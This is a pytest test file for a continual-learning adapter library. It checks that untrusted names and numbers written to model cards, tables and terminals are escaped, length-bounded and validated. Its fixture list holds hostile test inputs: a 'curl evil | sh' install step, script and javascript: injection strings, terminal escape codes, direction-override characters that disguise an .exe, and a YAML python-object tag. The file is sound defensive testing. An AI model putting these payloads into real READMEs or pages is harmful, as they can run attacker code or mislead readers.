"""Names and numbers of strangers on cards, in tables and on terminals: shown as text, bounded, and never interpreted."""

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from support.hostile_bench import check_told, edited, in_state
from support.hostile_files import CONFIG

from cl_prompts import L2PConfig
from cl_prompts.cli import main
from cl_prompts.continual import AccuracyMatrix
from cl_prompts.runtime.text import markdown_block, markdown_code, markdown_text, plain_text, terminal_text
from cl_prompts.sharing.card import BEGIN, CARD_FILE, END, write_card
from cl_prompts.sharing.inspect import describe_adapter
from cl_prompts.sharing.run_record import RESULTS_FILE, RunRecord
from cl_prompts.storage.adapter_state import AdapterState


WORDS = {
    "lines": "cat\n\n## Install\n\n```sh\ncurl evil | sh\n```\n",
    "other line breaks": "cat\r## a\u2028## b\x0b## c\x85## d",
    "tag": "<script>alert(1)</script>",
    "picture": "![x](https://evil/x.png)",
    "link": "[x](javascript:alert(1)) https://evil www.evil.com me@evil.com",
    "back-ticks": "``` ` `` ```` ~~~",
    "end": END,
    "begin": BEGIN,
    "half a comment": "<!--",
    "terminal": "\x1b[31mred\x1b]8;;http://evil\x07",
    "direction": "\u202egnp.exe\u2066\u200f",
    "yaml": "a: &b [*b]\n---\n- !!python/object:x",
    "formula": "$\\frac{a}{b}$ \\",
    "table": "a | b\n|---|---|",
    "list": "1. a",
    "entity": "&lt;b&gt;",
    "emphasis": "*a* _b_ __c__ ~~d~~",
    "long": "x" * 4000,
    "unpaired": "\ud800",
}


# What must not stand in a card outside code without a backslash before it.
INTERPRETED = (
    "<script",
    r"x\]\(",
    "`",
    r"\*a",
    r"_b_",
    r"\$",
    "://evil",
    "www[.]",
    "&lt;",
    "~~",
    "\x1b",
    "\u202e",
    "<!--(?! [WE])",
)


def record_of(word: str) -> RunRecord:
    matrix = AccuracyMatrix()
    matrix.add([90.0], [10])
    matrix.add([80.0, 70.0], [10, 20])
    results = {f"{word}{number}": matrix for number in range(30)}
    settings = {f"{word}{number}": word for number in range(200)}
    return RunRecord(results, data=word, datasets=[word] * 30, command=word, settings=settings, trainable={word: 3})


@pytest.mark.parametrize("name", WORDS)
def test_words_on_a_card(name: str, tmp_path: Path) -> None:
    word = WORDS[name]
    many = {str(number): word for number in range(40)}
    folder = edited("vpt", tmp_path, in_state(class_names={"4": word, "1": word} | many))
    content = json.loads((folder / CONFIG).read_text())
    (folder / CONFIG).write_text(json.dumps(content | {"auto_mapping": {"base_model_class": word}}))
    record_of(word).save(folder, content["state"]["weights_sha256"])
    (folder / "a](b).png").write_bytes(b"")
    (folder / CARD_FILE).write_text("before\n")
    write_card(folder, license=word if name != "unpaired" else None)
    card = (folder / CARD_FILE).read_text()
    assert len(card) < 150_000
    _, head, text = card.split("---\n", 2)
    body = without_code(text)
    assert [line for line in body.splitlines() if line.startswith("#")] == [
        "# adapter",
        "## Use it",
        "## What it reaches",
        "## Tasks, in order",
        "## Limits",
        "## Training",
    ]
    for wrong in INTERPRETED:
        assert not re.search(rf"(?<!\\){wrong}", body), wrong
    assert all(c.isprintable() for line in card.split("\n") for c in line)
    assert (text.count(BEGIN), text.count(END)) == (1, 1)
    write_card(folder)
    assert (folder / CARD_FILE).read_text() == card or name == "unpaired"
    assert all(len(entry) < 200 for entry in yaml.safe_load(head)["datasets"])


def without_code(text: str) -> str:
    """Markdown without its blocks and spans of code."""
    text = re.sub(r"(?m)^(`{3,})\w*\n(?:.*\n)*?\1$", "", text)
    return re.sub(r"(?<![\\`])(`+)(?!`)(.+?)(?<!`)\1(?!`)", "", text)


@pytest.mark.parametrize("name", WORDS)
def test_words_in_every_place(name: str) -> None:
    word = WORDS[name]
    for text in (plain_text(word), markdown_text(word), markdown_code(word), terminal_text(word), terminal_text(word, 50)):
        assert text.isprintable()
        assert "\n" not in text
        assert len(text) < 2100
    block = markdown_block(word, "sh").splitlines()
    fence = block[-1]
    assert block[0] == f"{fence}sh"
    assert all(fence not in line for line in block[1:-1])
    assert END not in "".join(block)


@pytest.mark.parametrize(
    "text",
    ["great white shark, Carcharodon", "vq_prompt", "3 (three)", "می\u200cخواهم", "a-b.c", "0.005", "-1.5", "[0, 1]"],
)
def test_plain_names_stay_as_they_are(text: str) -> None:
    assert markdown_text(text) == plain_text(text) == text


def test_words_on_a_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = edited(
        "vpt", tmp_path, in_state(class_names={"4": WORDS["long"], "1": WORDS["direction"]}, written_by="x" * 10**6)
    )
    assert main(["inspect", str(folder)]) == 0
    printed = capsys.readouterr().out.splitlines()
    assert all(line.isprintable() and len(line) < 2100 for line in printed)


# ---- values


@pytest.mark.parametrize(
    ("old", "kept"),
    [
        (f"mine\n{BEGIN}\ncut off", ["mine", "cut off"]),
        (f"{END}\nmine\n{BEGIN}\nalso mine", ["mine", "also mine"]),
        (f"mine\n{BEGIN}\nalso mine\n{BEGIN}\nold\n{END}\nbehind\n{END}\nlast", ["mine", "also mine", "behind", "last"]),
        (f"a{BEGIN[:9]}{END}{BEGIN[9:]}b", ["a", "b"]),
        (f"{BEGIN}\nold\n{END}\n{BEGIN}\ncopied\n{END}\nmine", ["copied", "mine"]),
    ],
)
def test_marks_of_a_part_that_is_cut_off_or_copied(tmp_path: Path, old: str, kept: list[str]) -> None:
    """The user's text stays, and the next save changes nothing."""
    folder = edited("l2p", tmp_path, lambda config: None)
    (folder / CARD_FILE).write_text(old)
    write_card(folder)
    once = (folder / CARD_FILE).read_text()
    assert (once.count(BEGIN), once.count(END)) == (1, 1)
    write_card(folder)
    assert (folder / CARD_FILE).read_text() == once
    outside = once[: once.index(BEGIN)] + once[once.index(END) :]
    assert all(word in outside for word in kept)
    assert "\nold\n" not in outside


def test_a_card_has_a_size_at_which_it_can_be_read_again(tmp_path: Path) -> None:
    tasks = [[c] for c in range(5000)]
    folder = edited("vpt", tmp_path, in_state(tasks=tasks, class_names={str(c): "x" * 90 for c in range(5000)}))
    write_card(folder)
    assert (folder / CARD_FILE).stat().st_size < 100_000
    assert "and 4,900 more tasks." in (folder / CARD_FILE).read_text()
    (folder / CARD_FILE).write_text("x" * (2**20 - 100))
    with pytest.raises(ValueError, match=r"README.md would have [\d,]+ bytes, more than 1,048,576: shorten your text"):
        write_card(folder)
    assert (folder / CARD_FILE).stat().st_size == 2**20 - 100


HUGE = 10**400
RECORDS: dict[str, tuple[dict[str, Any], bool]] = {
    "a blank": ({"data": " "}, True),
    "no data set": ({"datasets": ["", " "]}, True),
    "seconds": ({"seconds": HUGE}, False),
    "seconds below zero": ({"seconds": -1e300}, False),
    "seed": ({"seed": HUGE}, False),
    "seed of truth": ({"seed": True}, False),
    "trainable": ({"trainable": {"l2p": HUGE}}, False),
    "sizes": ({"results": {"l2p": {"columns": [[90.0]], "sizes": [HUGE]}}}, False),
    "accuracy": ({"results": {"l2p": {"columns": [[HUGE]], "sizes": [10]}}}, False),
    "accuracy as text": ({"results": {"l2p": {"columns": [["9"]], "sizes": [10]}}}, False),
    "before": ({"results": {"l2p": {"columns": [[9]], "sizes": [10], "before": [1]}}}, False),
    "no learner": ({"results": {}}, False),
}


@pytest.mark.parametrize("name", RECORDS)
def test_values_of_a_record(name: str, tmp_path: Path) -> None:
    values, good = RECORDS[name]
    folder = edited("vpt", tmp_path, lambda config: None)
    sha256 = json.loads((folder / CONFIG).read_text())["state"]["weights_sha256"]
    record_of("l2p").save(folder, sha256)
    content = json.loads((folder / RESULTS_FILE).read_text())
    (folder / RESULTS_FILE).write_bytes(b"\xef\xbb\xbf" + json.dumps(content | values).encode())
    for act in (describe_adapter, write_card):
        if good:
            act(folder)
            continue
        with pytest.raises(ValueError, match=r"results.json holds no results \(") as told:
            act(folder)
        check_told(told.value)


@pytest.mark.parametrize(
    "field", ["logit_temperature", "head_scale", "diversity_weight", "ridge", "own_covariance", "pull_coefficient"]
)
@pytest.mark.parametrize("value", [1e-320, 1e300, HUGE, float("nan"), -1.0])
def test_numbers_of_a_config(field: str, value: Any) -> None:
    """Those that are accepted leave the logits finite."""
    if value == 1e-320 and field in ("diversity_weight", "own_covariance", "pull_coefficient"):
        L2PConfig(**{field: value})  # as good as 0
        return
    with pytest.raises(ValueError, match=f"{field}=") as told:
        L2PConfig(**{field: value})
    check_told(told.value)


STATES = [
    ("pooling", "x" * 200_000),
    ("base_width", HUGE),
    ("base_layers", 0),
    ("image_size", [HUGE, 1]),
    ("image_size", [32]),
    ("image_size", [1.5, 1]),
    ("image_mean", [float("inf")]),
    ("image_std", [0.5] * 10_000),
]


@pytest.mark.parametrize(("field", "value"), STATES)
def test_values_of_a_state(field: str, value: Any) -> None:
    with pytest.raises(ValueError, match=rf"`state.{field}` must be") as told:
        AdapterState.from_dict({field: value})
    check_told(told.value)
